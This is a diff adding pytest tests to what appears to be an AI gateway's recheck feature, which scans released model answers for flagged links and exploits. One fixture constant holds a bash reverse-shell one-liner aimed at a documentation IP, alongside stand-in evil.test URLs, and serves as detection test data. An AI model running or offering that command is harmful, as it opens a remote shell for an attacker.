@@ -168,3 +168,82 @@ def test_one_recheck_takes_so_many_calls_and_says_where_to_go_on(house, monkeypa
     assert told["looked"] == 2
     _, rest = house.recheck(by="ivo", since=told["next"])
     assert (rest["looked"], rest["next"]) == (1, None)
+
+
+ANSWERS = READERS.replace("readers: [partner, auditor], opening: two-party}", "readers: [partner, provider]}")
+OUTPUT = HANDLING + "    output: {hosts: [corp.example], exploit: withhold}\n"
+EXPLOIT = "bash -i >& /dev/tcp/192.0.2.7/443 0>&1"
+
+
+def said(text, *, stream=False):
+    if not stream:
+        return json.dumps({"choices": [{"message": {"content": text}}]})
+    half = len(text) // 2
+    pieces = [{"choices": [{"delta": {"content": one}}]} for one in (text[:half], text[half:])]
+    return "".join(f"data: {json.dumps(one)}\n\n" for one in pieces) + ": a receipt\n\ndata: [DONE]\n\n"
+
+
+def answered(house, released, found=(), *, field="released"):
+    """Appends a call with what was let out of its answer, and what was found in it then."""
+    intent = replace(INTENT, path_digest=house.digest, data_classes={}, dialect="openai.chat")
+    house.world.clock.at = Instant(house.begin + seconds(100 + len(house.log())))
+    call = house.append(CALL_INTENT.draft(intent, sealed={"request": body("hello")}, subject="ana"))
+    ended = replace(ENDED, call=call, found=dict(found))
+    house.append(CALL_OUTCOME.draft(ended, sealed={field: released}, subject="ana"))
+    house.world.clock.at = Instant(house.begin + seconds(3_600))
+    return call
+
+
+@pytest.fixture
+def answering(monkeypatch):
+    monkeypatch.setattr(gateway_world, "PROJECTIONS", {**gateway_world.PROJECTIONS, **BREACHES, **RECHECKS})
+    made = program(ANSWERS).replace(HANDLING.encode(), OUTPUT.encode()).replace(b"release: pass", b"release: hold-all")
+    with log_world(program=made) as world:
+        yield Recheckable(world)
+
+
+def opened_fields(house):
+    return [one.body["field"] for one in house.log() if one.type == OPENED.name]
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_what_todays_rules_find_in_answers_that_were_let_out_is_told_by_kind(answering, stream):
+    link = answered(answering, said("see https://evil.test/a", stream=stream))
+    both = answered(answering, said(f"https://evil.test/b {EXPLOIT}", stream=stream), {"link": 1})
+    fine = answered(answering, said("see https://wiki.corp.example/a", stream=stream))
+    status, told = answering.recheck(by="ivo", answers=True)
+    assert (status, told["answers"], told["looked"], told["failed"]) == (200, True, 6, 0)
+    found = {one["call"]: one["answer"] for one in told["found"]}
+    assert (found[link], found[both], fine in found) == ({"link": 1}, {"exploit": 1}, False)
+    assert opened_fields(answering).count("released") == 3
+    assert "evil" not in json.dumps([dict(one.body) for one in answering.log()], default=str) + json.dumps(told)
+
+
+def test_answers_are_looked_at_where_that_is_asked_for_and_none_is_a_breach(answering):
+    call = answered(answering, said("see https://evil.test/a"))
+    told = answering.recheck(by="ivo")[1]
+    assert (told["answers"], call in {one["call"] for one in told["found"]}) == (False, False)
+    assert "released" not in opened_fields(answering)
+    told = answering.recheck(by="ivo", answers=True)[1]
+    assert (told["breaches"], call in {one["call"] for one in told["found"]}) == ([], True)
+
+
+def test_an_answer_that_was_sealed_apart_is_looked_at_too(answering):
+    released = said(f"{EXPLOIT} https://evil.test/a")
+    call = answered(answering, released, {"exploit": 1}, field="exploit_released")
+    told = answering.recheck(by="ivo", answers=True)[1]
+    assert {one["call"]: one["answer"] for one in told["found"]}[call] == {"link": 1}
+
+
+def test_an_answer_that_nobody_reads_any_more_is_told_as_not_readable(answering):
+    answered(answering, '{"a": 1, "a": 2}')
+    assert answering.recheck(by="ivo")[1]["failed"] == 0
+    assert answering.recheck(by="ivo", answers=True)[1]["failed"] == 1
+
+
+@pytest.mark.parametrize("house", [READERS], indirect=True)
+def test_answers_that_both_parties_open_wait_for_a_vote_and_requests_do_not(house):
+    answered(house, said("see https://evil.test/a"))
+    assert house.recheck(by="ivo")[0] == 200
+    status, waiting = house.recheck(by="ivo", answers=True)
+    assert (status, waiting["state"], "released of calls" in waiting["which"]) == (202, "waiting", True)
